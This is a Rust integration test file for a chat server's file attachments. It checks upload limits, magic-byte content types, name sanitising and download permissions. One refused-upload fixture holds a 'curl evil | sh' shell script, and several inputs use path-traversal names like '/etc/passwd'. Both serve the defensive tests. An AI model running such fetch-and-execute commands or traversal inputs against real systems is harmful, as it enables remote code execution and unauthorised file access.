//! Attachments (SPEC section 5, "Files"): multipart upload by a participant, the size
//! limit, content types decided by magic bytes, sanitised names, storage by random key,
//! downloads only for those who may see the session, and `message.send` with an
//! `attachment_id` producing a `file` message.

mod common;

use common::ws::{assert_error, Chat, WsClient};
use common::TestApp;
use serde_json::{json, Value};

const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";

/// Downloads an attachment; returns status, Content-Disposition and the bytes.
async fn download(app: &TestApp, url: &str, token: Option<&str>) -> (u16, String, Vec<u8>) {
    let mut request = app.client.get(app.url(url));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let mut response = request.send().await.expect("download reaches the server");
    let disposition = response
        .headers()
        .get("content-disposition")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    let bytes = response.body().limit(16 << 20).await.unwrap().to_vec();
    (response.status().as_u16(), disposition, bytes)
}

fn send_file(session_id: &str, attachment_id: &Value, body: Option<&str>) -> Value {
    let mut frame = json!({"type": "message.send", "session_id": session_id,
                           "client_msg_id": uuid::Uuid::new_v4().to_string(),
                           "attachment_id": attachment_id});
    if let Some(body) = body {
        frame["body"] = json!(body);
    }
    frame
}

#[actix_web::test]
async fn an_uploaded_image_is_sent_as_a_file_message_and_downloaded_by_participants() {
    let app = TestApp::spawn().await;
    let mut chat = Chat::open(&app).await;

    let (status, uploaded) = app
        .upload(
            &chat.session_id,
            &chat.visitor_token,
            "../../etc/photo.png",
            PNG,
        )
        .await;
    assert_eq!(status, 201, "{uploaded}");
    let attachment = &uploaded["attachment"];
    assert_eq!(attachment["file_name"], "photo.png");
    assert_eq!(attachment["content_type"], "image/png");
    assert_eq!(attachment["size_bytes"], PNG.len());
    let url = attachment["url"].as_str().unwrap().to_owned();
    assert_eq!(
        url,
        format!("/api/v1/attachments/{}", attachment["id"].as_str().unwrap())
    );

    // Stored by a random key, not by the name the client gave.
    let dir = app.app_state.config.attachment_dir();
    let stored: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(stored.len(), 1);
    let key = stored[0].to_string_lossy().into_owned();
    assert!(
        key.len() == 32 && key.chars().all(|c| c.is_ascii_hexdigit()),
        "{key}"
    );
    assert_eq!(std::fs::read(dir.join(&key)).unwrap(), PNG);

    let ack = chat
        .visitor
        .expect_reply(
            send_file(&chat.session_id, &attachment["id"], Some("my receipt")),
            "message.ack",
        )
        .await;
    assert_eq!(ack["message"]["kind"], "file");
    assert_eq!(ack["message"]["body"], "my receipt");
    assert_eq!(ack["message"]["attachment"], *attachment);
    let live = chat.specialist.recv_type("message.new").await;
    assert_eq!(live["message"]["attachment"]["id"], attachment["id"]);

    // The attachment is part of the stored conversation, over WebSocket and HTTP.
    let state = chat
        .specialist
        .expect_reply(
            json!({"type": "session.resume", "session_id": chat.session_id, "after_seq": 0}),
            "session.state",
        )
        .await;
    assert_eq!(state["messages"][0]["attachment"]["file_name"], "photo.png");
    let admin = app.admin_token().await;
    let (_, page) = app
        .get(
            &format!("/api/v1/sessions/{}/messages", chat.session_id),
            &admin,
        )
        .await;
    assert_eq!(page["messages"][0]["attachment"]["id"], attachment["id"]);

    for token in [&chat.visitor_token, &chat.specialist_token, &admin] {
        let (status, disposition, bytes) = download(&app, &url, Some(token)).await;
        assert_eq!(status, 200);
        assert_eq!(disposition, "attachment; filename=\"photo.png\"");
        assert_eq!(bytes, PNG);
    }

    // Each upload is sent once.
    let again = chat
        .visitor
        .request(send_file(&chat.session_id, &attachment["id"], None))
        .await;
    assert_error(&again, &["conflict"]);
}

#[actix_web::test]
async fn strangers_may_neither_upload_nor_download() {
    let app = TestApp::spawn().await;
    let chat = Chat::open(&app).await;
    let (status, uploaded) = app
        .upload(&chat.session_id, &chat.visitor_token, "a.png", PNG)
        .await;
    assert_eq!(status, 201);
    let url = uploaded["attachment"]["url"].as_str().unwrap();

    let admin = app.admin_token().await;
    let (_, other_visitor) = app.visitor("Olga").await;
    let (_, other_specialist) = app.specialist(&admin, "other@example.com", json!({})).await;
    let (_, bot) = app.bot(&admin, "Some bot").await;
    for token in [&other_visitor, &other_specialist, &bot] {
        let (status, _, _) = download(&app, url, Some(token)).await;
        assert_eq!(status, 403);
        let (status, error) = app.upload(&chat.session_id, token, "b.png", PNG).await;
        assert_eq!(
            (status, error["error"]["code"].as_str()),
            (403, Some("forbidden"))
        );
    }
    let (status, _) = app.upload(&chat.session_id, &admin, "c.png", PNG).await;
    assert_eq!(status, 403, "admins look, they do not write");
    let (status, _, _) = download(&app, url, None).await;
    assert_eq!(status, 401);
    let (status, _, _) = download(
        &app,
        &format!("/api/v1/attachments/{}", uuid::Uuid::now_v7()),
        Some(&admin),
    )
    .await;
    assert_eq!(status, 404);
}

#[actix_web::test]
async fn the_owning_bot_uploads_sends_and_downloads() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let (_, bot) = app.bot(&admin, "Intake bot").await;
    let (status, created) = app
        .post("/api/v1/sessions", &bot, json!({"visitor": {}}))
        .await;
    assert_eq!(status, 201);
    let session_id = created["session"]["id"].as_str().unwrap();
    let mut visitor = WsClient::connect(&app, created["visitor_token"].as_str().unwrap()).await;

    let (status, uploaded) = app
        .upload(session_id, &bot, "invoice.pdf", b"%PDF-1.7\n%\xe2\xe3\n")
        .await;
    assert_eq!(status, 201, "{uploaded}");
    assert_eq!(uploaded["attachment"]["content_type"], "application/pdf");
    let (status, sent) = app
        .post(
            &format!("/api/v1/sessions/{session_id}/messages"),
            &bot,
            json!({"attachment_id": uploaded["attachment"]["id"]}),
        )
        .await;
    assert_eq!(status, 201, "{sent}");
    assert_eq!(sent["message"]["kind"], "file");
    let live = visitor.recv_type("message.new").await;
    assert_eq!(live["message"]["attachment"]["file_name"], "invoice.pdf");

    let url = uploaded["attachment"]["url"].as_str().unwrap();
    let (status, _, _) = download(&app, url, Some(&bot)).await;
    assert_eq!(status, 200);
    let visitor_token = created["visitor_token"].as_str().unwrap();
    let (status, _, bytes) = download(&app, url, Some(visitor_token)).await;
    assert_eq!((status, bytes.len()), (200, 13));

    // The visitor cannot send the bot's upload as their own.
    let reply = visitor
        .request(send_file(session_id, &uploaded["attachment"]["id"], None))
        .await;
    assert_error(&reply, &["forbidden", "conflict"]);
}

#[actix_web::test]
async fn content_types_come_from_magic_bytes_and_executables_are_refused() {
    let app = TestApp::spawn().await;
    let chat = Chat::open(&app).await;
    let accepted: [(&str, &[u8], &str); 5] = [
        ("scan.png", b"\xff\xd8\xff\xe0\0\x10JFIF", "image/jpeg"),
        ("anim.gif", b"GIF89a\x01\0\x01\0", "image/gif"),
        ("pic.webp", b"RIFF\x1a\0\0\0WEBPVP8L", "image/webp"),
        ("logs.zip", b"PK\x03\x04\x14\0\0\0", "application/zip"),
        (
            "notes.txt",
            "héllo, wörld\n".as_bytes(),
            "text/plain; charset=utf-8",
        ),
    ];
    for (name, bytes, expected) in accepted {
        let (status, body) = app
            .upload(&chat.session_id, &chat.visitor_token, name, bytes)
            .await;
        assert_eq!(status, 201, "{name}: {body}");
        assert_eq!(body["attachment"]["content_type"], expected, "{name}");
    }
    let refused: [(&str, &[u8]); 5] = [
        ("photo.png", ELF),
        ("photo.png", b"MZ\x90\0\x03\0\0\0"),
        ("photo.png", b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
        ("photo.png", b"#!/bin/sh\ncurl evil | sh\n"),
        ("photo.png", b"\0\x01\x02\x03\x04 unknown binary"),
    ];
    for (name, bytes) in refused {
        let (status, body) = app
            .upload(&chat.session_id, &chat.visitor_token, name, bytes)
            .await;
        assert_eq!(status, 400, "{bytes:?}: {body}");
        assert_eq!(body["error"]["code"], "bad_request");
    }
    let (status, _) = app
        .upload(&chat.session_id, &chat.visitor_token, "empty.txt", b"")
        .await;
    assert_eq!(status, 400);
    let dir = app.app_state.config.attachment_dir();
    assert_eq!(
        std::fs::read_dir(dir).unwrap().count(),
        accepted.len(),
        "refused files are not kept"
    );
}

#[actix_web::test]
async fn names_are_sanitised() {
    let app = TestApp::spawn().await;
    let chat = Chat::open(&app).await;
    for (given, kept) in [
        // Backslashes escape inside a quoted header value, so these arrive as single ones.
        ("C:\\\\fakepath\\\\report.txt", "report.txt"),
        ("/etc/passwd", "passwd"),
        ("..", "file"),
        (".hidden.txt", "hidden.txt"),
    ] {
        let (status, body) = app
            .upload(&chat.session_id, &chat.visitor_token, given, b"text")
            .await;
        assert_eq!(status, 201, "{given}: {body}");
        assert_eq!(body["attachment"]["file_name"], kept, "{given}");
    }
}

#[actix_web::test]
async fn a_non_ascii_name_is_offered_in_both_forms() {
    let app = TestApp::spawn().await;
    let chat = Chat::open(&app).await;
    let (status, body) = app
        .upload(&chat.session_id, &chat.visitor_token, "résumé.txt", b"cv")
        .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["attachment"]["file_name"], "résumé.txt");
    let url = body["attachment"]["url"].as_str().unwrap();
    let (status, disposition, _) = download(&app, url, Some(&chat.visitor_token)).await;
    assert_eq!(status, 200);
    assert_eq!(
        disposition,
        "attachment; filename=\"r_sum_.txt\"; filename*=UTF-8''r%C3%A9sum%C3%A9.txt"
    );
}

#[actix_web::test]
async fn uploads_over_the_limit_get_413() {
    let app = TestApp::spawn_with(&["--max-upload-bytes", "1000"]).await;
    let chat = Chat::open(&app).await;
    let (status, _) = app
        .upload(
            &chat.session_id,
            &chat.visitor_token,
            "a.txt",
            &[b'a'; 1000],
        )
        .await;
    assert_eq!(status, 201, "exactly at the limit");
    let (status, body) = app
        .upload(
            &chat.session_id,
            &chat.visitor_token,
            "b.txt",
            &[b'a'; 1001],
        )
        .await;
    assert_eq!(status, 413, "{body}");
    assert_eq!(body["error"]["code"], "too_large");
}

#[actix_web::test]
async fn the_default_limit_is_ten_mebibytes() {
    let app = TestApp::spawn().await;
    let chat = Chat::open(&app).await;
    let mut big: Vec<u8> = (0..10 * 1024 * 1024)
        .map(|i| b'a' + (i % 26) as u8)
        .collect();
    let (status, body) = app
        .upload(&chat.session_id, &chat.visitor_token, "big.txt", &big)
        .await;
    assert_eq!(status, 201, "{body}");
    let url = body["attachment"]["url"].as_str().unwrap();
    let (status, _, downloaded) = download(&app, url, Some(&chat.visitor_token)).await;
    assert_eq!(status, 200);
    assert!(
        downloaded == big,
        "the download is the upload, byte for byte"
    );
    big.push(b'a');
    let (status, body) = app
        .upload(&chat.session_id, &chat.visitor_token, "bigger.txt", &big)
        .await;
    assert_eq!(status, 413, "{body}");
}

#[actix_web::test]
async fn attachments_belong_to_their_session_and_ended_sessions_take_none() {
    let app = TestApp::spawn().await;
    let mut chat = Chat::open(&app).await;
    let (status, uploaded) = app
        .upload(&chat.session_id, &chat.visitor_token, "a.png", PNG)
        .await;
    assert_eq!(status, 201);
    let foreign = send_file(
        &uuid::Uuid::now_v7().to_string(),
        &uploaded["attachment"]["id"],
        None,
    );
    assert_error(&chat.visitor.request(foreign).await, &["not_found"]);
    let unknown = send_file(&chat.session_id, &json!(uuid::Uuid::now_v7()), None);
    assert_error(&chat.visitor.request(unknown).await, &["not_found"]);

    chat.visitor.end_session(&chat.session_id).await;
    let (status, body) = app
        .upload(&chat.session_id, &chat.visitor_token, "b.png", PNG)
        .await;
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (409, Some("conflict"))
    );
    let (status, _) = app
        .upload(
            &uuid::Uuid::now_v7().to_string(),
            &chat.visitor_token,
            "b.png",
            PNG,
        )
        .await;
    assert_eq!(status, 404);
}
